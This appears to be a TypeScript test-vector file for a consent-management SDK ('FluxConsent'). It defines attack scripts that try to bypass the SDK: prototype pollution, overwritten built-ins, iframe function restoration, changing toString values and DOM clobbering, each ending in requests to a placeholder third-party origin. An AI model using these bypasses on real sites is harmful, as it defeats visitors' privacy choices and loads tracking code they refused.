import { group, js } from '../vector.ts';

/** The last step of an attack: everything a third party could want, by functions of the page as they are then. */
const load = `try{var s=document.createElement('script');s.src='{{o}}/x.js';document.head.appendChild(s)}catch{}
try{fetch('{{o}}/data').catch(()=>{})}catch{} try{new Image().src='{{o}}/p.gif'}catch{}
try{document.body.insertAdjacentHTML('beforeend','<iframe src="{{o}}/f.html"></iframe>')}catch{}
try{navigator.sendBeacon('{{o}}/data')}catch{} try{var x=new XMLHttpRequest;x.open('GET','{{o}}/data');x.send()}catch{}`;

/** Built-ins of the page, turned against any code that still uses them. */
const REDEFINED: Readonly<Record<string, string>> = {
  'Array methods say yes':
    'for (const k of ["some","every","includes","find","filter","indexOf"]) Array.prototype[k] = () => true',
  'Array methods say no':
    'for (const k of ["some","every","includes"]) Array.prototype[k] = () => false; Array.prototype.find = () => undefined; Array.prototype.filter = Array.prototype.map = () => []',
  'Array methods throw':
    'for (const k of ["push","shift","splice","forEach","map","join","slice"]) Array.prototype[k] = () => { throw new Error("attack") }',
  'Map and WeakMap':
    'Map.prototype.get = WeakMap.prototype.get = () => true; Map.prototype.has = WeakMap.prototype.has = Set.prototype.has = WeakSet.prototype.has = () => true',
  'Map and WeakMap are empty':
    'Map.prototype.get = WeakMap.prototype.get = () => undefined; Map.prototype.has = WeakMap.prototype.has = Set.prototype.has = WeakSet.prototype.has = () => false',
  'String methods':
    'for (const k of ["startsWith","endsWith","includes"]) String.prototype[k] = () => true; String.prototype.toLowerCase = String.prototype.trim = () => "app.test"',
  'RegExp finds nothing':
    'RegExp.prototype.test = () => false; RegExp.prototype.exec = () => null; RegExp.prototype[Symbol.match] = () => null; RegExp.prototype[Symbol.replace] = () => ""',
  'RegExp finds all': 'RegExp.prototype.test = () => true',
  URL: 'window.URL = function () { return { hostname: "app.test", host: "app.test", origin: location.origin, protocol: "https:", href: location.href, pathname: "/" } }; URL.createObjectURL = () => "blob:"',
  'URL getters':
    'for (const k of ["hostname", "host", "origin"]) Object.defineProperty(URL.prototype, k, { get: () => location[k] })',
  'String and Array':
    'window.String = () => "data:"; window.String.fromCodePoint = () => ""; Array.from = () => []; window.Object = Object.assign((x) => x, { entries: () => [], keys: () => [] })',
  'iterators of elements':
    'NamedNodeMap.prototype[Symbol.iterator] = NodeList.prototype[Symbol.iterator] = function* () {}; Object.getPrototypeOf([][Symbol.iterator]()).next = Object.getPrototypeOf(new Set().values()).next = () => ({ done: true })',
  'attribute values': 'Object.defineProperty(Attr.prototype, "value", { get: () => "" })',
  iteration: 'Array.prototype[Symbol.iterator] = function* () {}',
  'Function.prototype':
    'Function.prototype.call = Function.prototype.apply = Function.prototype.bind = function () { return this }',
  'Reflect and Object':
    'Reflect.apply = Reflect.get = Reflect.construct = () => undefined; Object.keys = Object.entries = () => []; Object.hasOwn = () => true',
  Proxy: 'window.Proxy = function (target) { return target }',
  'DOM getters':
    'for (const [o, k, v] of [[Node.prototype, "isConnected", false], [Node.prototype, "nodeType", 3], [Element.prototype, "localName", "b"], [Element.prototype, "tagName", "B"], [Node.prototype, "nodeName", "B"], [Node.prototype, "ownerDocument", null], [Node.prototype, "baseURI", "x"], [Element.prototype, "attributes", []], [Element.prototype, "firstElementChild", null], [DocumentFragment.prototype, "firstElementChild", null], [Node.prototype, "parentNode", null], [Element.prototype, "shadowRoot", null]]) try { Object.defineProperty(o, k, { get: () => v, configurable: true }) } catch {}',
  'DOM readers':
    'Element.prototype.getAttribute = () => "/own.js"; Element.prototype.hasAttribute = Element.prototype.matches = () => false; Element.prototype.querySelectorAll = DocumentFragment.prototype.querySelectorAll = Document.prototype.querySelectorAll = () => []',
  promises: 'Promise.prototype.then = function () { return this }',
  observers:
    'MutationObserver.prototype.takeRecords = () => []; MutationObserver.prototype.disconnect = MutationObserver.prototype.observe = () => {}; window.MutationObserver = class { observe() {} }',
  'our own global':
    'try { delete window.FluxConsent } catch {} try { window.FluxConsent = { has: () => true } } catch {} try { Object.assign(window.FluxConsent, { has: () => true, settled: true, policy: {} }) } catch {}',
  'the snapshot':
    'try { const s = FluxConsent.get(); for (const d of [...Object.values(s.decisions), ...Object.values(s.services)]) { try { d.status = "granted" } catch {} } } catch {}',
  'the policy':
    'try { const p = FluxConsent.policy; p.unknown.requests = "allow" } catch {} try { FluxConsent.policy.firstParty.push("tracker.test") } catch {} try { FluxConsent.policy.enforce = false } catch {} try { for (const c of FluxConsent.policy.categories) c.required = true } catch {} try { FluxConsent.policy.services.length = 0 } catch {}',
  'inner doors':
    'try { FluxConsent.provide({ held: () => [], look() {} }) } catch {} try { FluxConsent.emit("change", FluxConsent.get(), FluxConsent.get()) } catch {} try { FluxConsent.emit("ready", FluxConsent.get()) } catch {}',
  'Object.prototype':
    'Object.assign(Object.prototype, { granted: true, status: "granted", analytics: true, required: true, enforce: false, strict: false, source: "visitor", allow: true, open: () => true, unknown: { requests: "allow", storage: "allow" } }); for (const t of ["visibilitychange", "pageshow"]) { document.dispatchEvent(new Event(t)); dispatchEvent(new Event(t)) }',
  'Object.prototype as decisions':
    'Object.prototype.nobody = { status: "granted" }; document.body.insertAdjacentHTML("beforeend", "<img data-consent=nobody data-src={{o}}/p.gif>")',
  'Object.prototype descriptors':
    'Object.prototype.get = () => undefined; Object.prototype.set = () => {}; Object.prototype.value = undefined',
  'Object.prototype descriptors for a frame':
    'Object.prototype.get = () => undefined; Object.prototype.set = () => {}; Object.prototype.value = undefined; const f = document.body.appendChild(document.createElement("iframe")); window.fetch = f.contentWindow.fetch; f.contentWindow.eval("fetch(\'{{o}}/data\')")',
  'frame in a form':
    'const m = document.createElement("form"); m.innerHTML = \'<input name="firstElementChild"><input name="isConnected"><iframe></iframe>\'; document.body.append(m); const w = m.querySelector("iframe").contentWindow; w.eval("fetch(\'{{o}}/data\')"); window.fetch = w.fetch',
};
/** Functions of a fresh frame `w`, put back over guarded ones. */
const RESTORED: Readonly<Record<string, string>> = {
  'window functions':
    'window.fetch = w.fetch; window.XMLHttpRequest = w.XMLHttpRequest; window.Image = w.Image',
  prototypes:
    'for (const k of ["Node", "Element", "Document", "HTMLScriptElement", "HTMLImageElement", "HTMLIFrameElement", "Navigator", "XMLHttpRequest"]) for (const p of Object.getOwnPropertyNames(w[k].prototype)) { try { Object.defineProperty(window[k].prototype, p, Object.getOwnPropertyDescriptor(w[k].prototype, p)) } catch {} }',
  'after its removal':
    'const keep = { fetch: w.fetch, append: w.Node.prototype.appendChild }; f.remove(); window.fetch = keep.fetch; Node.prototype.appendChild = keep.append',
};

const named = (name: string): string => name.toLowerCase().replace(/[^a-z]+/g, '-');
const frame = "var f=document.createElement('iframe');document.body.append(f);var w=f.contentWindow;";
const all = {
  only: 'undeclared',
  twinless: 'a page that breaks its own built-ins has no working twin',
  most: 99,
  broken: true,
} as const;

/** Page scripts that run after the SDK and try to get it out of the way. */
export const attacks = [
  ...group(
    'attacks',
    Object.entries(REDEFINED).map(([name, code]) => [named(name), 'R', js(`${code}\n;${load}`)]),
    all,
  ),
  ...group(
    'attacks',
    Object.entries(RESTORED).map(([name, code]) => [
      named(`frame ${name}`),
      'R',
      js(`${frame}${code};${load}`),
    ]),
    all,
  ),
  ...group(
    'attacks',
    [
      [
        'polluted-before',
        'R',
        js(load),
        {
          above: js(
            'Object.assign(Object.prototype,{granted:true,status:"granted",analytics:true,required:true,enforce:false,firstParty:["tracker.test"]})',
          ),
        },
      ],
      [
        'held-script-changed',
        'R',
        `<script id="held" src="{{o}}/x.js"></script>${js(`var s=document.getElementById('held')||document.createElement('script');
for(const type of ['','text/javascript','module']){try{s.type=type}catch{}} try{s.removeAttribute('type')}catch{}
document.body.append(s,s.cloneNode(true));var c=document.createElement('script');
for(const a of s.attributes){try{c.setAttribute(/src$/.test(a.name)?'src':a.name,a.value)}catch{}} c.removeAttribute('type');document.body.append(c);
document.body.insertAdjacentHTML('beforeend',s.outerHTML)`)}`,
      ],
      [
        'released-by-held',
        'R',
        js(
          `${load};setTimeout(()=>{try{const list=window.FluxConsent?FluxConsent.held():[];for(const item of list){for(const [k,v] of Object.entries(item)){try{if(typeof v==='function')v.call(item);else if(k!=='element')item[k]=[]}catch{}}}list.length=0}catch{}},50)`,
        ),
      ],
      [
        'address-that-changes',
        'R',
        js(
          `${load};for(const first of ['/own.js','https://app.test/']){for(let at=1;at<4;at++){let n=0;const two={toString:()=>n++<at?first:'{{o}}/x.js'};try{const s=document.createElement('script');s.src=two;document.body.append(s)}catch{} n=0;try{new Image().src=two}catch{} n=0;try{fetch(two).catch(()=>{})}catch{} n=0;try{const s=document.createElement('script');s.setAttribute('src',two);document.body.append(s)}catch{}}}`,
        ),
      ],
      [
        'markup-that-changes',
        'R',
        js(
          `for(let at=1;at<5;at++){let n=0;const bad='<img src="{{o}}/p.gif"><iframe src="{{o}}/f.html"></iframe>';const two={toString:()=>n++<at?'<p>':bad};const reset=()=>{n=0;const d=document.createElement('div');document.body.append(d);return d};for(const put of [d=>{d.innerHTML=two},d=>{d.outerHTML=two},d=>d.insertAdjacentHTML('beforeend',two),d=>d.setHTMLUnsafe(two),d=>d.append(document.createRange().createContextualFragment(two)),()=>document.write(two),d=>{d.innerHTML='<style></style>';n=0;const css={toString:()=>n++<at?'a{}':'body{background:url({{o}}/p.gif)}'};d.firstChild.textContent=css},d=>{const css={toString:()=>n++<at?'':'background:url({{o}}/p.gif)'};d.setAttribute('style',css)},d=>{const css={toString:()=>n++<at?'':'background:url({{o}}/p.gif)'};d.style.cssText=css}]){try{put(reset())}catch{}}}`,
        ),
      ],
      [
        'clobbered-global',
        'R',
        `<form id="FluxConsent"></form><a id="dataLayer"></a><a id="flux-consent-policy"></a>${js(load)}`,
      ],
      [
        'clobbered-document',
        'R',
        `<img name="cookie"><img name="createElement"><form name="body"></form><img name="querySelectorAll"><img name="readyState"><img name="currentScript"><img name="defaultView">${js(
          load
            .replaceAll('document.body.', 'document.documentElement.')
            .replaceAll('document.createElement(', 'Document.prototype.createElement.call(document,'),
        )}`,
      ],
      [
        'clobbered-base',
        'R',
        `<img name="baseURI"><img name="defaultView"><form name="head"></form><script src="{{o}}/x.js"></script>${js(`${load}\ntry{document.body.attachShadow({mode:'open'}).innerHTML='<img src="{{o}}/p.gif">'}catch{}`)}`,
      ],
      [
        'clobbered-form-in-pieces',
        'R',
        js(
          `var f=document.createElement('form');f.innerHTML='<input name="firstElementChild"><input name="attributes"><input name="nodeType"><input name="hasAttributes"><input name="shadowRoot">';var s=document.createElement('script');s.src='{{o}}/x.js';f.append(s);var i=document.createElement('img');f.append(i);document.body.append(f);i.src='{{o}}/p.gif'`,
        ),
      ],
      [
        'clobbered-form',
        'R',
        `<form><input name="attributes"><input name="nodeType"><input name="localName"><input name="parentNode"><input name="getAttribute"><input name="querySelectorAll"><input name="isConnected"><input name="ownerDocument"><script src="{{o}}/x.js"></script><img src="{{o}}/p.gif"></form>`,
      ],
      [
        'clobbered-form-action',
        'R',
        `<iframe name="sink"></iframe><form id="f" target="sink" action="{{o}}/form"><input name="action"><input name="submit"><input name="getAttribute"></form>${js('HTMLFormElement.prototype.submit.call(f)')}`,
      ],
    ],
    all,
  ),
];
